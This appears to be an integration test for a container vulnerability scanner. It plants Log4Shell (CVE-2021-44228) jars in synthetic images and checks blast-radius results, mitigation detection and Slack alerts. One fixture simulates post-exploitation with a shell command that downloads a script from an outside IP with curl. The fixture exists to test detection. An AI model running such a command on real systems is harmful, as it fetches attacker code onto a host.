import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { freePort } from '@tidewaiter/servers';
import {
  buildImage,
  describeWith,
  programs,
  pushImage,
  slackSink,
  type SlackSink,
  startRegistry,
  type TarEntry,
  type TestRegistry,
  zipArchive,
  type ZipFile,
} from '@tidewaiter/testkit';

import { debian13, dpkgStatus } from '../fixtures.js';
import {
  makeHome,
  quiet,
  removeFolders,
  startTidewaiter,
  temporaryFolder,
  type Tidewaiter,
  until,
} from '../tidewaiter.js';
import {
  falcoAlert,
  falcoExec,
  type FalcoProcess,
  report,
  sensorToken,
  testPod,
  type TestPod,
  watched,
} from './pods.js';

// Log4Shell, December 2021: a library nested deep in other archives, an advisory that is published
// long after the scan of the images, and an attack on one of the pods.

const hookSecret = 'hook-secret-of-the-test';
const cve = 'CVE-2021-44228';
const channel = 'C0000001';
const name = 'org.apache.logging.log4j:log4j-core';
const jar = 'log4j-core-2.14.1.jar';

const pom = (group: string, artifact: string, version: string): ZipFile => ({
  name: `META-INF/maven/${group}/${artifact}/pom.properties`,
  content: `version=${version}\ngroupId=${group}\nartifactId=${artifact}\n`,
});
const log4j = (version: string, artifact = 'log4j-core') => pom('org.apache.logging.log4j', artifact, version);
const classes = (...names: string[]): ZipFile[] =>
  names.map((each) => ({
    name: `org/apache/logging/log4j/core/${each}.class`,
    content: Buffer.from('cafebabe', 'hex'),
  }));
const vulnerableClasses = classes('LoggerContext', 'lookup/JndiLookup');
const archive = (path: string, ...files: ZipFile[]): TarEntry => ({ path, content: zipArchive(files) });
const stored = (path: string, ...files: ZipFile[]): ZipFile => ({
  name: path,
  content: zipArchive(files),
  isStored: true,
});
const direct = archive(`opt/lib/${jar}`, log4j('2.14.1'), ...vulnerableClasses);

const affected: Record<string, TarEntry> = {
  'direct-1': direct,
  'direct-2': direct,
  'direct-3': direct,
  nested: archive(
    'srv/shop.ear',
    stored('shop.war', stored(`WEB-INF/lib/${jar}`, log4j('2.14.1'), ...vulnerableClasses)),
  ),
  // Without metadata: only its classes identify it.
  shaded: archive('opt/shop.jar', { name: 'com/acme/Shop.class', content: 'x' }, ...vulnerableClasses),
};
const mitigated = archive(`opt/lib/${jar}`, log4j('2.14.1'), ...classes('LoggerContext', 'lookup/MapLookup'));

/** Images that look much like it and are not affected. */
const others: Record<string, TarEntry> = Object.fromEntries(
  Array.from({ length: 44 }, (_, index): [string, TarEntry] => {
    const kinds = [
      archive('opt/lib/log4j-core-2.17.1.jar', log4j('2.17.1'), ...vulnerableClasses),
      archive('opt/lib/log4j-api-2.14.1.jar', log4j('2.14.1', 'log4j-api')),
      archive('opt/lib/log4j-1.2.17.jar', pom('log4j', 'log4j', '1.2.17')),
      archive('opt/lib/logback-core-1.2.3.jar', pom('ch.qos.logback', 'logback-core', '1.2.3')),
      { path: 'app/main.py', content: `print(${index})\n` } satisfies TarEntry,
    ];
    return [`other-${index}`, kinds[index % kinds.length]!];
  }),
);

const advisory = {
  schema_version: '1.7.0',
  id: 'GHSA-jfh8-c2jp-5v3q',
  modified: '2022-03-25T20:56:18Z',
  published: '2021-12-10T00:40:56Z',
  aliases: [cve],
  summary: 'Remote code injection in Log4j',
  severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H' }],
  affected: [
    ['2.13.0', '2.15.0'],
    ['0', '2.3.1'],
    ['2.4', '2.12.2'],
  ].map(([introduced, fixed]) => ({
    package: { ecosystem: 'Maven', name },
    ranges: [{ type: 'ECOSYSTEM', events: [{ introduced }, { fixed }] }],
  })),
  database_specific: { severity: 'CRITICAL', github_reviewed: true },
};
const kev = {
  dateReleased: '2021-12-10T00:00:00Z',
  vulnerabilities: [{ cveID: cve, dateAdded: '2021-12-10', knownRansomwareCampaignUse: 'Known' }],
};

interface Finding {
  id: string;
  severity: string;
  path: string;
  kev: boolean;
  running: boolean | null;
  inUse: boolean | null;
  evidence: Record<string, unknown>;
}

interface Blast {
  items: { repository: string; isMitigated: boolean; workloads: { name: string }[] | null }[];
  counts: { images: number; mitigated: number };
}

interface Incident {
  id: string;
  title: string;
  severity: string;
  workload: string | null;
  imageDigest: string | null;
}

let slack: SlackSink;
let registry: TestRegistry;
let tidewaiter: Tidewaiter;
let pod: TestPod;
const digests = new Map<string, string>();

const java: FalcoProcess = {
  executable: '/usr/bin/java',
  commandLine: 'java -Xmx512m -cp /app:/opt/lib/* com.acme.Shop',
  parentExecutable: '/usr/bin/containerd-shim-runc-v2',
  parentCommandLine: 'containerd-shim-runc-v2 -namespace k8s.io',
};

beforeAll(async () => {
  slack = await slackSink();
  const ingestPort = await freePort();
  const notify = {
    url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
    headers: { Authorization: `Bearer ${hookSecret}` },
  };
  registry = await startRegistry({ notify });
  const home = makeHome({
    'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
sensors:
  - { name: falco, kind: falco, cluster: eu1, token: ${sensorToken} }
  - { name: watch, kind: kubernetes-watch, cluster: eu1, token: ${sensorToken} }
`,
    'routing.yaml': `
route:
  receiver: advisories
  group_interval: 1s
  routes: [ { receiver: security, matchers: [ 'kind="incident"' ] } ]
receivers:
  - name: advisories
    slack_configs: [ { api_url: "${slack.webhookUrl}" } ]
  - name: security
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel} } ]
`,
  });
  tidewaiter = await startTidewaiter(home, ingestPort);
  await pushAll({ ...affected, mitigated, ...others });
  // From here on nothing can be pulled.
  await registry.stop();
}, 300_000);

afterAll(async () => {
  await tidewaiter?.stop();
  await Promise.all([registry?.stop(), slack?.stop()]);
  await removeFolders();
});

/** Pushes an image for each entry, all on the same layers, and waits until all are scanned. */
async function pushAll(entries: Record<string, TarEntry>): Promise<void> {
  const dir = temporaryFolder();
  const program = (path: string): TarEntry => ({ path, mode: 0o755, content: `#!/bin/sh\n# ${path}\n` });
  const base = [[debian13, dpkgStatus({ dash: '0.5.12-2' })], ['bin/sh', 'usr/bin/curl', 'usr/bin/java'].map(program)];
  for (const [image, entry] of Object.entries(entries)) {
    const Entrypoint = ['java', '-cp', '/app:/opt/lib/*', 'com.acme.Shop'];
    await buildImage(dir, { layers: [...base, [entry]], config: { Entrypoint, Labels: { image } }, tag: image });
    digests.set(image, await pushImage(registry, `shop/${image}:1`, `oci:${dir}:${image}`));
  }
  await until(
    'all are scanned',
    async () => {
      const { items } = await tidewaiter.api<{ items: { state: string }[] }>('/pushes?limit=200');
      return items.filter(({ state }) => state === 'analyzed').length === Object.keys(entries).length;
    },
    180_000,
  );
}

async function findingsOf(image: string): Promise<Finding[]> {
  const { items } = await tidewaiter.api<{ items: Finding[] }>(`/images/${digests.get(image)}/findings`);
  return items.filter(({ id }) => id === cve);
}

/** Images with the vulnerability, by the query that an analyst would make. */
const blastRadius = async () => tidewaiter.api<Blast>(`/blast-radius?vulnerability=${cve}`);
const incidents = async () => (await tidewaiter.api<{ items: Incident[] }>('/incidents')).items;

describeWith(programs('docker-registry', 'skopeo'))('Log4Shell in 50 images', () => {
  beforeAll(async () => {
    pod = testPod({
      ...{ namespace: 'shop', kind: 'Deployment', workload: 'checkout', tag: '1', digest: digests.get('direct-1')! },
      repository: `${registry.host}/shop/direct-1`,
    });
    await report(tidewaiter, 'watch', watched('ADDED', pod));
    await report(tidewaiter, 'falco', falcoExec(pod, java));
    const folder = temporaryFolder();
    writeFileSync(join(folder, 'kev.json'), JSON.stringify(kev));
    await tidewaiter.command('advisories', 'import', join(folder, 'kev.json'));
    writeFileSync(join(folder, 'advisory.json'), JSON.stringify(advisory));
    await tidewaiter.command('advisories', 'import', join(folder, 'advisory.json'));
    await slack.waitFor(1);
    await quiet();
  });

  it('is one alert with exactly the five affected images, without a pull', () => {
    const messages = slack.received.filter(({ path }) => path.startsWith('/services/'));
    const texts = messages.map(({ body }) => JSON.stringify(body));
    expect(texts).toHaveLength(1);
    const named = [...digests.keys()].filter((image) => texts[0]!.includes(`shop/${image}:1`));
    expect(named.toSorted()).toEqual(Object.keys(affected).toSorted());
    expect(texts[0]).toContain(cve);
  });

  it('is found in five images, and in none of the other 44', async () => {
    const { items, counts } = await blastRadius();
    const open = items.filter(({ isMitigated }) => !isMitigated).map(({ repository }) => repository);
    expect(open.toSorted()).toEqual(
      Object.keys(affected)
        .map((image) => `shop/${image}`)
        .toSorted(),
    );
    expect(counts).toMatchObject({ images: 6, mitigated: 1 });
    for (const image of Object.keys(others)) expect(await findingsOf(image)).toEqual([]);
  });

  it('is reported as mitigated in the sixth', async () => {
    const { items } = await blastRadius();
    expect(items.filter(({ isMitigated }) => isMitigated)).toMatchObject([{ repository: 'shop/mitigated' }]);
    expect(await findingsOf('mitigated')).toMatchObject([
      { severity: 'negligible', evidence: { mitigation: expect.stringContaining('JndiLookup.class was removed') } },
    ]);
  });

  it('has the path in each image', async () => {
    const paths = await Promise.all(Object.keys(affected).map(async (image) => (await findingsOf(image))[0]?.path));
    const lib = `opt/lib/${jar}`;
    expect(paths).toEqual([lib, lib, lib, `srv/shop.ear!/shop.war!/WEB-INF/lib/${jar}`, 'opt/shop.jar']);
  });

  it('is listed with running images and images in use', async () => {
    await until('the archive of the process is known to be in use', async () => {
      const [finding] = await findingsOf('direct-1');
      return finding?.inUse === true;
    });
    expect(await findingsOf('direct-1')).toMatchObject([{ kev: true, running: true, inUse: true }]);
    expect(await findingsOf('direct-2')).toMatchObject([{ kev: true, running: false, inUse: null }]);
    const running = (await blastRadius()).items.filter(({ workloads }) => (workloads ?? []).length > 0);
    expect(running).toMatchObject([{ repository: 'shop/direct-1', workloads: [{ name: 'checkout' }] }]);
  });
});

describeWith(programs('docker-registry', 'skopeo'))('the attack on one pod', () => {
  let incident: Incident & { factsUsed: string[]; evidence: { text: string }[]; sentence: string };

  beforeAll(async () => {
    const command = 'curl -s http://203.0.113.77/x.sh -o /tmp/x.sh';
    const shell: FalcoProcess = {
      executable: '/bin/sh',
      commandLine: `sh -c "${command}"`,
      parentExecutable: java.executable,
      parentCommandLine: java.commandLine,
    };
    const curl: FalcoProcess = {
      executable: '/usr/bin/curl',
      commandLine: command,
      parentExecutable: shell.executable,
      parentCommandLine: shell.commandLine,
    };
    await report(
      tidewaiter,
      'falco',
      falcoExec(pod, shell),
      falcoAlert('Run shell untrusted', 'Notice', pod, shell),
      falcoExec(pod, curl),
      falcoAlert('Launch Ingress Remote File Copy Tools in Container', 'Notice', pod, curl),
    );
    await until('an incident is open', async () => (await incidents()).length > 0);
    await until('Slack has it', () => slack.channel(channel).length > 0);
    await quiet();
    const [first] = await incidents();
    incident = await tidewaiter.api(`/incidents/${first!.id}`);
  });

  it('is one incident with one message', async () => {
    expect(await incidents()).toHaveLength(1);
    expect(slack.channel(channel).filter(({ thread_ts: thread }) => thread === undefined)).toHaveLength(1);
    expect(incident).toMatchObject({ workload: 'shop/Deployment/checkout', imageDigest: digests.get('direct-1') });
  });

  it('ranks above everything that does not run', async () => {
    expect(incident.severity).toBe('critical');
    const findings = await Promise.all(Object.keys(affected).map(async (image) => (await findingsOf(image))[0]!));
    const rank = ({ running, inUse }: Finding) => (running === true ? 1 : 0) + (inUse === true ? 1 : 0);
    expect(findings.toSorted((a, b) => rank(b) - rank(a))[0]).toMatchObject({ running: true, inUse: true });
  });

  it('cites KEV, the archive in use, and the shell', () => {
    const fact = `${cve} (KEV) in ${name} at /opt/lib/${jar} is in use`;
    expect(incident.factsUsed).toContain(fact);
    expect(incident.sentence).toContain(fact);
    expect(incident.title).toContain(cve);
    expect(incident.evidence.map(({ text }) => text).join('\n')).toMatch(/sh -c .*curl -s/);
  });

  it('is announced in Slack with them', () => {
    const text = JSON.stringify(slack.channel(channel)[0]);
    for (const part of [cve, 'KEV', `/opt/lib/${jar}`, 'sh -c']) expect(text).toContain(part);
  });
});
